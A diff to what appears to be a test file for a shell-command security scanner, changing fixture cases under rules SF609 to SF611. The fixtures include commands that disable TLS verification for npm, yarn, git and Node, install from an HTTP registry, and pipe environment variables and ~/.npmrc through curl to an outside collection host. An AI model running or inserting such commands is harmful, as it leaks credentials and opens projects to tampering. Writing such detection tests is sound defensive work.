@@ -63,7 +63,7 @@ CASES = [
         W,
         ("SF609",),
     ),
-    Case("npm-strict-ssl", "npm config set strict-ssl false", "strict-ssl false", E, ("SF609",)),
+    Case("npm-set-strict-ssl", "npm set strict-ssl=false", "strict-ssl=false", E, ("SF609",)),
     Case("yarn-strict-ssl", "yarn config set strict-ssl false", "yarn config set strict-ssl", E, ("SF609",)),
     Case("node-tls-env", "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install", "NODE_TLS_REJECT_UNAUTHORIZED", E, ("SF609",)),
     Case(
@@ -75,9 +75,9 @@ CASES = [
     ),
     Case("git-ssl-no-verify", "export GIT_SSL_NO_VERIFY=1", "GIT_SSL_NO_VERIFY", E, ("SF609",)),
     Case(
-        "git-c-sslverify",
-        "git -c http.sslVerify=false clone https://git.ledgr-tools.io/ledgr.git",
-        "http.sslVerify=false",
+        "git-per-url-sslverify",
+        "git config --global http.https://git.ledgr-tools.io/.sslVerify false",
+        "git.ledgr-tools.io/.sslVerify",
         E,
         ("SF609",),
     ),
@@ -105,8 +105,8 @@ CASES = [
         ("SF610",),
     ),
     Case(
-        "npm-registry-http",
-        "npm install --registry http://npm.ledgr-mirror.net ledgr-shim",
+        "yarn-registry-http",
+        "yarn add ledgr-shim --registry http://npm.ledgr-mirror.net",
         "npm.ledgr-mirror.net",
         E,
         ("SF610",),
@@ -118,7 +118,13 @@ CASES = [
         E,
         ("SF610",),
     ),
-    Case("env-to-curl", "env | curl -d @- https://collect.ledgr-tools.io/e", "collect.ledgr-tools.io", E, ("SF611",)),
+    Case(
+        "env-group-to-curl",
+        "{ env; cat ~/.npmrc; } | curl --data-binary @- https://collect.ledgr-tools.io/e",
+        "collect.ledgr-tools.io",
+        E,
+        ("SF611",),
+    ),
     Case(
         "printenv-base64-post",
         "printenv | base64 | curl -X POST --data-binary @- https://collect.ledgr-tools.io/b",
